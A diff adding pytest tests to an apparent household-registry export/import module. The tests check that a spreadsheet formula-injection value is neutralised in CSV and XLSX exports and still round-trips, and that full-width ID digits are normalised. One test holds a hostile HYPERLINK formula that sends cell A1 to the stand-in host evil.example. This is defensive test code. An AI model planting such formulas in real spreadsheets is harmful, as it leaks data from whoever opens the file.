@@ -242,3 +242,38 @@ def test_export_command_scopes_and_masks(tmp_path, county_data, users):
     rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
     id_col = rows[0].index("公民身份号码")
     assert len(rows) > 25 and all("*" in r[id_col] for r in rows[1:])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_text_is_neutralised_in_exports_and_still_round_trips(tmp_path, county_data, fmt):
+    import zipfile
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    Member.objects.filter(pk=Member.objects.order_by("id").first().pk).update(name=hostile)
+    first = tmp_path / f"first.{fmt}"
+    getattr(export, f"write_{fmt}")(first, Household.objects.all(), mask=False)
+    if fmt == "csv":
+        cells = [c for r in csv.reader(io.StringIO(first.read_text(encoding="utf-8-sig"))) for c in r]
+        assert "'" + hostile in cells and hostile not in cells
+    else:
+        with zipfile.ZipFile(first) as z:
+            sheets_xml = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+            assert not any("<f>" in x for x in sheets_xml)  # no formula cell
+            assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode()
+        assert hostile in [c for rows in sheets(first).values() for r in rows for c in r]
+    wipe_registry()
+    assert import_file(user=None, path=first).created == 25
+    assert Member.objects.filter(name=hostile).count() == 1  # the guard is not part of the name
+
+
+def test_full_width_id_numbers_in_a_file_are_the_registered_people(tmp_path, county_data):
+    path = tmp_path / "h.csv"
+    export.write_csv(path, Household.objects.all(), mask=False)
+    width = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
+    text = path.read_text(encoding="utf-8")
+    for number in Member.objects.values_list("id_number", flat=True):
+        text = text.replace(number, number.translate(width))
+    path.write_text(text, encoding="utf-8")
+    result = import_file(user=None, path=path)
+    assert result.ok and result.created == 0, [g.errors for g in result.failed_groups]
+    assert Member.objects.count() == Member.objects.filter(id_number__regex=r"^[0-9X]{18}$").count()
